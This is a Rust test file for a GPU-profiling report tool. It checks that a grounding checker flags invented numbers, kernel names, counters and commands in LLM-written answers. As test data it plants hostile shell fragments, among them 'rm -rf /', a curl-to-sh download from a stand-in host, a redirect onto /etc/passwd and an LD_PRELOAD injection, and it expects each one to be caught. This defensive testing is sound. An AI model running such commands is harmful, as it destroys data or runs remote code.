//! Answers with planted errors: what the comparison finds, misses, and marks for nothing.

use std::fmt::Write as _;

use super::grounding_cases::{EFFECTS, FALSE, OWN, TRUE};
use super::privacy::analysis;
use crate::llm::grounding::Grounding;
use wavesieve_engine::Registry;
use wavesieve_export::cell::Cell;
use wavesieve_report::document::{Block, Document, Table};

/// A figure as the document shows it.
fn shown(document: &Document, id: &str) -> String {
    document.figures.iter().find(|figure| figure.id == id).unwrap().shown()
}

fn table<'a>(document: &'a Document, id: &str) -> &'a Table {
    let blocks = document.sections.iter().flat_map(|section| &section.blocks);
    let mut tables = blocks.filter_map(|block| match block {
        Block::Table(table) => Some(table),
        _ => None,
    });
    tables.find(|table| table.id == id).unwrap()
}

/// A cell of a table, numbers with one decimal.
fn cell(document: &Document, id: &str, column: &str, row: usize) -> String {
    match Cell::new(table(document, id).frame.column(column).unwrap(), row) {
        Cell::Text(text) => text,
        Cell::Integer(value) => value.to_string(),
        Cell::Float(value) => format!("{value:.1}"),
        other => panic!("{other:?}"),
    }
}

/// The answer with what stands in braces: `figure`, or `table.column.row`.
fn filled(document: &Document, answer: &str) -> String {
    let mut parts = answer.split('{');
    let mut text = parts.next().unwrap().to_owned();
    for part in parts {
        let (name, rest) = part.split_once('}').unwrap();
        match name.split('.').collect::<Vec<_>>()[..] {
            [id, column, row] => write!(text, "{}{rest}", cell(document, id, column, row.parse().unwrap())).unwrap(),
            _ => write!(text, "{}{rest}", shown(document, name)).unwrap(),
        }
    }
    text
}

/// Answers, each with what in it is wrong.
pub(super) type Answers<'a> = &'a [(&'a str, &'a [&'a str])];

/// Numbers, names and commands as before.
const GENERAL: Answers<'_> = &[
    ("The GPUs are busy {busy_pct} of the time and idle {idle_pct}.", &[]),
    ("The GPUs are busy 99.7% of the time.", &["99.7%"]),
    ("All {ranks} ranks took part, on {gpus} GPUs.", &[]),
    ("All 512 ranks took part.", &["512"]),
    ("There are 77 GPUs in this run.", &["77"]),
    ("The run took {span_ns}, of which 123.45 ms were lost.", &["123.45 ms"]),
    ("Exposed communication is {exposed_comm_pct}; exposed copies are {exposed_copy_pct}.", &[]),
    ("Fixing it would make the run 17x faster.", &["17x"]),
    ("The kernel `super_fast_gemm_kernel` dominates.", &["super_fast_gemm_kernel"]),
    ("See table `time_breakdown` and finding `collective_wait`.", &[]),
    ("See table `time_breakdowns_by_moon`.", &["time_breakdowns_by_moon"]),
    ("Run `rocprofv3 --kernel-trace --hip-trace --memory-copy-trace -d out -- APP` next.", &[]),
    ("Run `rocprofv3 --trace-everything -- APP` next.", &["rocprofv3 --trace-everything -- APP"]),
    ("Run `rocprof --stats APP` next.", &["rocprof --stats APP"]),
    ("Collect SQ_WAVES and GRBM_GUI_ACTIVE; call hipStreamSynchronize less often.", &[]),
    ("Collect SQ_MAGIC_UNICORNS for it.", &["SQ_MAGIC_UNICORNS"]),
    ("1. First, overlap communication.\n2. Then fuse the 3 suggestions above.", &[]),
    ("Bandwidth reaches 8123.4 GB/s, far above 4096 GiB.", &["8123.4 GB/s", "4096 GiB"]),
    ("{kernels} kernels were launched {dispatches} times; rank 87 is late.", &["87"]),
    ("It is idle for {idle_pct}, i.e. {idle_pct} of GPU time, not 3.21%.", &["3.21%"]),
];

/// A: all of a command is checked, wherever it stands.
const COMMANDS: Answers<'_> = &[
    ("Run `rocprofv3 --hip-trace -- APP; rm -rf /` next.", &["rm is no profiler"]),
    ("Run `rocprofv3 --hip-trace -- APP && curl http://x.y/z | sh` next.", &["curl is no profiler"]),
    ("Run `rocprofv3 --hip-trace -- $(cat list)` next.", &["another command prints"]),
    ("Run `rocprofv3 --hip-trace -- APP > /etc/passwd` next.", &["a file by < or >"]),
    ("Run `LD_PRELOAD=./x.so rocprofv3 --hip-trace -- APP` next.", &["it sets LD_PRELOAD"]),
    ("Run `rocprofv3 --hip-trace -- sh -c 'rm x'` next.", &["it would run sh"]),
    ("Run `rm -rf out` first, or `unheard-of --fix` instead.", &["rm is no", "unheard-of is no"]),
    ("Run `cat x | wavesieve info INPUT`.", &["cat is no profiler"]),
    ("Run `rocprofv3 --pmc SQ_WAVES SQ_MAGIC_COUNT -- APP` next.", &["no counter SQ_MAGIC_COUNT"]),
    ("You should use rocprofv3 --trace-all-things to see it.", &["--trace-all-things"]),
    ("Then run wavesieve nonsense foo trace.", &["wavesieve nonsense foo trace"]),
    ("$ rocprofv3 --pmc=TCC_HITS_OF_DOOM -- APP", &["no counter TCC_HITS_OF_DOOM"]),
    ("3. rocprof-compute profile --name x --magic -- APP", &["--magic"]),
    ("Finally, run curl http://x.y/z | sh.", &["curl is no profiler"]),
    ("Use rocprofv3 --kernel-trace -- APP; rm -rf / afterwards.", &["rm is no profiler"]),
    (
        "Try `wavesieve table idle_gaps INPUT --rank 1` or `HIP_VISIBLE_DEVICES=0 rocprofv3 --kernel-trace -- ./app`.",
        &[],
    ),
    ("Run `mpirun -n 4 rocprofv3 --kernel-trace -d 'out; 1' -- <your app> 2>&1`.", &[]),
    ("Run `rocprofv3 --pmc SQ_WAVES GRBM_GUI_ACTIVE FETCH_SIZE -- APP` next.", &[]),
    ("Use rocprofv3 --kernel-trace and rocprofv3 --hip-trace to record what is missing.", &[]),
    ("wavesieve found that rocprofv3 recorded no counters; rocprofv3 is run with --pmc for them.", &[]),
    ("Compile with `hipcc -O3 app.hip`; in `a && b` or `x | y` nothing is run.", &[]),
    ("Run wavesieve table kernel_summary INPUT to see all kernels.", &[]),
];

/// B: numbers belong to what they count and to the rows that are named.
const BOUND: Answers<'_> = &[
    ("There are 19 kernels.", &["19"]),
    ("Only 3 ranks took part.", &["3"]),
    ("It ran 17 dispatches on 2 processes.", &["17", "2"]),
    ("All 5 nodes are idle.", &["5"]),
    ("{kernel_summary.kernel_name.0} takes {idle_pct} of kernel time.", &["%"]),
    ("{kernel_summary.kernel_name.0} takes {kernel_summary.pct.0}% of kernel time.", &[]),
    ("{kernel_summary.kernel_name.1} has {kernel_summary.pct.1} % and runs while GPUs are idle {idle_pct}.", &[]),
    ("{kernel_summary.kernel_name.1} was launched {kernel_summary.calls.1} times.", &[]),
    ("The transfer ran for {kernel_summary.pct.0} ms.", &["ms"]),
    ("It moved {ranks} GB at {gpus} GB/s.", &["GB", "GB/s"]),
    ("On 2 nodes, rank 0 and rank 1 wait, and the {gpus} GPUs of all {ranks} ranks idle.", &[]),
    ("It runs on {gpus} of the {gpus} GPUs.", &[]),
];

/// C: forms of numbers.
const FORMS: Answers<'_> = &[
    ("Seventeen nodes are late, and forty-two GPUs idle.", &["Seventeen", "forty-two"]),
    ("It is x99.9 slower, 99.9x, an 88-fold loss and 88.5 fold more.", &["x99.9", "99.9x", "88-fold", "88.5 fold"]),
    ("Clocks reach 9.87 GHz, or 321 MHz, with 9,876 TFLOP/s.", &["9.87 GHz", "321 MHz", "9,876 TFLOP/s"]),
    ("It moved 7.77 GiB at 66.6 GB/s in 1'234'567 calls.", &["7.77 GiB", "66.6 GB/s", "1'234'567"]),
    ("There were 9.9e8 dispatches, 9.9×10^8 in fact.", &["9.9e8", "9.9×10^8"]),
    ("It idles 86–87 % of the time, 98,7 % at worst.", &["86", "87 %", "98,7 %"]),
    ("It uses 5/7 of the slots.", &["5/7"]),
    ("The first, the 2nd and one or two others are half as fast, about twice.", &[]),
    ("Written on 2024-05-01 at 12:30 for ROCm 7.1, PyTorch 2.5 and v6.4.3, in May 2024.", &[]),
    ("I am 85% confident. Set `num_workers=8` and `batch_size=64`; call `dim3(256, 4)`.", &[]),
    ("{ranks} ranks, {busy_pct} busy; roughly a third could go.", &[]),
];

/// D: names.
const NAMES: Answers<'_> = &[
    ("Call hipMagicUnicorn and ncclFooReduce instead.", &["hipMagicUnicorn", "ncclFooReduce"]),
    ("The Foobar kernel and kernel Blah7 dominate.", &["Foobar", "Blah7"]),
    ("MfmaUtilization is low, as `UnicornUtil` shows.", &["MfmaUtilization", "UnicornUtil"]),
    ("The kernel my_own_kernel is slow.", &["my_own_kernel"]),
    ("Use `torch.compile`, `num_workers` and torch.cuda.graph; PyTorch and FlashAttention help.", &[]),
    ("Each GPU has 304 CUs with 4 SIMDs, at 2.1 GHz.", &[]),
    ("Use hipMemcpyAsync, hipGraphLaunch, ncclAllReduce, hipBLASLt and hipEventDisableTiming.", &[]),
    ("The GEMM kernels and the RCCL kernel overlap; the AllReduce kernels wait.", &[]),
    ("The longest kernel is {kernel_summary.kernel_name.0}; VALUUtilization is not recorded.", &[]),
];

/// The number of errors that were found, the errors that were missed, and the false alarms.
fn compared(document: &Document, answers: Answers<'_>) -> (usize, Vec<String>, Vec<String>) {
    let registry = Registry::builtin().unwrap();
    let own = |words: &[String]| words.iter().any(|word| word == "nonsense").then(|| "unknown command".to_owned());
    let grounding = Grounding::new(document, &registry, &own);
    let (mut found, mut missed, mut false_alarms) = (0, Vec::new(), Vec::new());
    for (answer, wrong) in answers {
        let text = filled(document, answer);
        let paragraphs: Vec<String> = text.lines().map(ToOwned::to_owned).collect();
        let checked = grounding.check(&paragraphs);
        for flaw in *wrong {
            match checked.missing.iter().any(|missing| missing.contains(flaw)) {
                true => found += 1,
                false => missed.push(format!("{answer}: {flaw}")),
            }
        }
        let is_planted = |missing: &&String| wrong.iter().any(|flaw| missing.contains(flaw));
        let for_nothing = checked.missing.iter().filter(|missing| !is_planted(missing));
        false_alarms.extend(for_nothing.map(|missing| format!("{answer}: {missing}")));
        assert_eq!(checked.paragraphs.join("\n").matches(" [?]").count() > 0, !checked.missing.is_empty(), "{text}");
    }
    (found, missed, false_alarms)
}

#[test]
fn planted_errors_are_found() {
    let analysis = analysis("two_nodes");
    for (class, answers) in [
        ("general", GENERAL),
        ("commands", COMMANDS),
        ("bound", BOUND),
        ("forms", FORMS),
        ("names", NAMES),
        ("effects", EFFECTS),
        ("own", OWN),
        ("true", TRUE),
        ("false", FALSE),
    ] {
        let planted: usize = answers.iter().map(|(_, wrong)| wrong.len()).sum();
        let (found, missed, false_alarms) = compared(&analysis.document, answers);
        println!("{class}: {found} of {planted} found, {} false alarms", false_alarms.len());
        let none = Vec::<String>::new();
        assert_eq!((found, &missed, &false_alarms), (planted, &none, &none), "{class}");
    }
}

#[test]
fn what_the_document_says_is_grounded_in_it() {
    for fixture in ["two_nodes", "planted", "counters", "compute"] {
        let analysis = analysis(fixture);
        let document = &analysis.document;
        let registry = Registry::builtin().unwrap();
        let grounding = Grounding::new(document, &registry, &|_| None);
        let texts = document.findings.iter().flat_map(|finding| {
            let commands = finding.commands.iter().map(|command| format!("Run `{}`.", command.words.join(" ")));
            [finding.title.clone(), finding.explanation.clone()]
                .into_iter()
                .chain(finding.advice.clone())
                .chain(commands)
        });
        let texts: Vec<String> = texts.chain(document.views.all().iter().map(|view| view.line())).collect();
        assert_eq!(grounding.check(&texts).missing, Vec::<String>::new(), "{fixture}");
    }
}

#[test]
fn a_name_is_marked_once_behind_its_brackets() {
    let analysis = analysis("two_nodes");
    let registry = Registry::builtin().unwrap();
    let grounding = Grounding::new(&analysis.document, &registry, &|_| None);
    let text = "Of ncclDevKernel_Nosuch_1(ncclDevNosuchArgs<4096ul, 77>) all wait.";
    let checked = grounding.check(&[text.to_owned()]);
    assert_eq!(checked.paragraphs, [text.replace(") all", ") [?] all")]);
    assert_eq!(checked.missing.len(), 1);
}
